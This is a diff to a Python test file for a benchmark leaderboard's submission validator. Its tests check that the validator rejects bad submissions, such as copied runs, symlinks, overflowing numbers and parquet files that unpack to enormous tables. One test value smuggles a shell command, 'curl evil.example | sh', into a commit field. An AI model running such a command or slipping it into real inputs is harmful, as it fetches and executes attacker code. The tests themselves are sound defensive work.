@@ -18,6 +18,7 @@ from lmrl_bench.digests import file_sha256
 from lmrl_bench.leaderboards.collect import collect
 from lmrl_bench.leaderboards.spec import load_board
 from lmrl_bench.leaderboards.submission import tree
+from lmrl_bench.leaderboards.submission.records import Submission
 from lmrl_bench.runs.expectations import of_board
 
 
@@ -253,6 +254,16 @@ RECORDS = {
         lambda c: c["results"]["validation"].update(truncated_share=0.125),
         "results.validation: truncated_share is 0.125, but curves.jsonl ends with",
     ),
+    "commands in place of a commit": (
+        "validate",
+        lambda c: c["provenance"].update(commit="main; curl evil.example | sh #"),
+        "provenance.commit: String should match pattern",
+    ),
+    "text in place of a flag": (
+        "validate",
+        lambda c: c["fidelity"].update(flags=["**checked**"]),
+        "fidelity.flags.0: Input should be 'max_logprob_difference'",
+    ),
     "no configuration at all": (
         "validate",
         lambda c: c.update(config={}),
@@ -415,6 +426,17 @@ def test_curves_that_are_not_json_or_no_numbers(handed, refuse):
     refuse("validate")
 
 
+@pytest.mark.parametrize("name", ["tokens", "progress"])
+def test_curves_with_a_number_that_overflows(handed, refuse, name):
+    path = handed.run() / "curves.jsonl"
+    text = re.sub(rf'"{name}":[\d.]+', f'"{name}":1e999', path.read_text())
+    assert "1e999" in text
+    path.write_text(text)
+    named = {"sha256": file_sha256(path)}
+    handed.edit(lambda content: content["curves"].update(named))
+    assert "curves.jsonl" in refuse("validate")
+
+
 def test_json_without_end(handed, refuse):
     (handed.run() / "record.json").write_text("[" * 100_000)
     assert "record.json: corrupt" in refuse("validate")
@@ -451,7 +473,24 @@ def test_a_record_copied_to_another_seed(handed, refuse):
     handed.edit(lambda content: disguise(content, row="ppo", seed=1))
     path = handed.run() / "config.yaml"
     path.write_text(path.read_text().replace("seed: 0", "seed: 1"))
-    assert "ppo/1: its curves are byte for byte those of" in refuse("validate")
+    assert "ppo/1: its curves are those of" in refuse("validate")
+
+
+def test_a_copy_with_other_curves(handed, refuse):
+    """A space, an iteration count or a number does not make another run of it."""
+    handed.copy(f"{PPO}/0", f"{PPO}/1")
+    handed.edit(lambda content: disguise(content, row="ppo", seed=1))
+    path = handed.run() / "curves.jsonl"
+    path.write_text(path.read_text().replace("{", "{ ", 1))
+    named = {"path": path.name, "sha256": file_sha256(path)}
+    handed.edit(lambda content: content["curves"].update(named))
+    handed.edit(lambda content: content["budget"].update(iterations=0))
+    found = refuse("validate")
+    assert "ppo/1: its curves are those of" in found
+    handed.edit_curves(lambda lines: lines[1].update(progress=0.123))
+    found = refuse("validate")
+    assert "ppo/1: its curves are" not in found
+    assert "ppo/1: its answers are those of" in found
 
 
 def test_a_record_copied_to_another_row(handed, refuse):
@@ -473,7 +512,7 @@ def test_a_record_copied_to_another_row(handed, refuse):
         resolved = content["config"] | {"label": "mine", "seed": seed}
         (handed.folder / f"toy/mine/{seed}/config.yaml").write_text(yaml.safe_dump(resolved))
     found = refuse("validate")
-    assert len(re.findall("toy/mine/.: its curves are byte for byte those of", found)) == 3
+    assert len(re.findall("toy/mine/.: its curves are those of", found)) == 3
 
 
 LINKS = ["record.json", "samples.parquet", "curves.jsonl", "config.yaml"]
@@ -485,6 +524,28 @@ def test_links(handed, refuse, tmp_path, name):
     path.rename(tmp_path / "elsewhere")
     path.symlink_to(tmp_path / "elsewhere")
     assert f"{path}: is a link; put the run's own" in refuse("validate")
+
+
+def test_older_rows_removed_through_a_link(handed, capsys, tmp_path):
+    """Under the link's own name the folder would stand for further rows only."""
+    shutil.rmtree(handed.folder / "toy" / "ppo")
+    other = handed.folder.rename(tmp_path / "rows")
+    handed.folder.symlink_to(other)
+    options = ("--board", handed.board, "--against", handed.before)
+    done = call(capsys, "submission", "validate", handed.folder, *options)
+    assert (done.code, f"{handed.folder}: is a link" in done.err) == (2, True)
+    assert Submission(load_board(handed.board), handed.folder).whole
+
+
+def test_what_a_run_leaves_behind_is_not_followed(handed, capsys, tmp_path):
+    """A folder of further rows is laid over the earlier ones, without what git ignores."""
+    rows = handed.folder.rename(tmp_path / "rows")
+    inside = rows / PPO / "1" / "policy"
+    inside.mkdir()
+    (inside / "secret").symlink_to(tmp_path / "nowhere")
+    options = ("--board", handed.board, "--against", handed.before)
+    done = call(capsys, "submission", "validate", rows, *options)
+    assert done.code == 0, done.err
 
 
 def test_what_is_no_file_of_a_run(handed, refuse):
@@ -514,17 +575,43 @@ def _only_others(folder):
     return read_record(folder)
 
 
-def test_a_small_file_that_unpacks_to_a_huge_table(handed, refuse):
-    folder = handed.run()
-    table = pq.read_table(folder / "samples.parquet").slice(0, 1)
-    n = 1_000_000
-    huge = pa.table({name: pa.chunked_array([table[name].chunk(0)] * 1).combine_chunks().take(
-        pa.array([0] * n)) for name in table.column_names})  # fmt: skip
-    pq.write_table(huge, folder / "samples.parquet", compression="zstd", use_dictionary=False)
-    assert (folder / "samples.parquet").stat().st_size < tree.LIMITS["samples.parquet"]
-    named = {"sha256": file_sha256(folder / "samples.parquet"), "rows": n}
+def exchange_answers(handed, table):
+    """Writes a samples.parquet that the record of ppo/1 names."""
+    path = handed.run() / "samples.parquet"
+    pq.write_table(table, path, compression="zstd")
+    assert path.stat().st_size < tree.LIMITS[path.name]
+    named = {"sha256": file_sha256(path), "rows": table.num_rows}
     handed.edit(lambda content: content["samples"].update(named))
-    assert "samples.parquet unpacks to" in refuse("validate")
+
+
+def test_many_rows_in_a_small_file(handed, refuse):
+    """A dictionary and run lengths make a million equal rows a file of some kilobytes."""
+    row = pq.read_table(handed.run() / "samples.parquet").slice(0, 1)
+    exchange_answers(handed, row.take(pa.array([0] * 1_000_000)))
+    assert "samples.parquet holds 1,000,000 rows, more than 3 times 4" in refuse("validate")
+
+
+@pytest.mark.parametrize("name", ["output", "references"])
+def test_long_texts_in_a_small_file(handed, refuse, name, monkeypatch):
+    """One text of 5 MB that many values of the dictionary's column name."""
+    table = pq.read_table(handed.run() / "samples.parquet")
+    text = "x" * 5_000_000
+    monkeypatch.setattr(tree, "UNPACKED_LIMIT", 15_000_000)  # the stored 5 MB are below it
+    values = [text] * table.num_rows if name == "output" else [[text] * 9] + [[]] * 3
+    column = pa.array(values, type=table.schema.field(name).type)
+    position = table.column_names.index(name)
+    exchange_answers(handed, table.set_column(position, name, column))
+    assert "samples.parquet unpacks to more than 15,000,000 bytes" in refuse("validate")
+
+
+def test_long_lists_in_a_small_file(handed, refuse, monkeypatch):
+    table = pq.read_table(handed.run() / "samples.parquet")
+    values = [[7] * 2_000_000] + [[]] * 3
+    position = table.column_names.index("output_ids")
+    column = pa.array(values, type=pa.list_(pa.int32()))
+    monkeypatch.setattr(tree, "UNPACKED_LIMIT", 5_000_000)
+    exchange_answers(handed, table.set_column(position, "output_ids", column))
+    assert "samples.parquet unpacks to more than 5,000,000 bytes" in refuse("validate")
 
 
 def test_older_records_stay_as_they_are(handed, refuse):
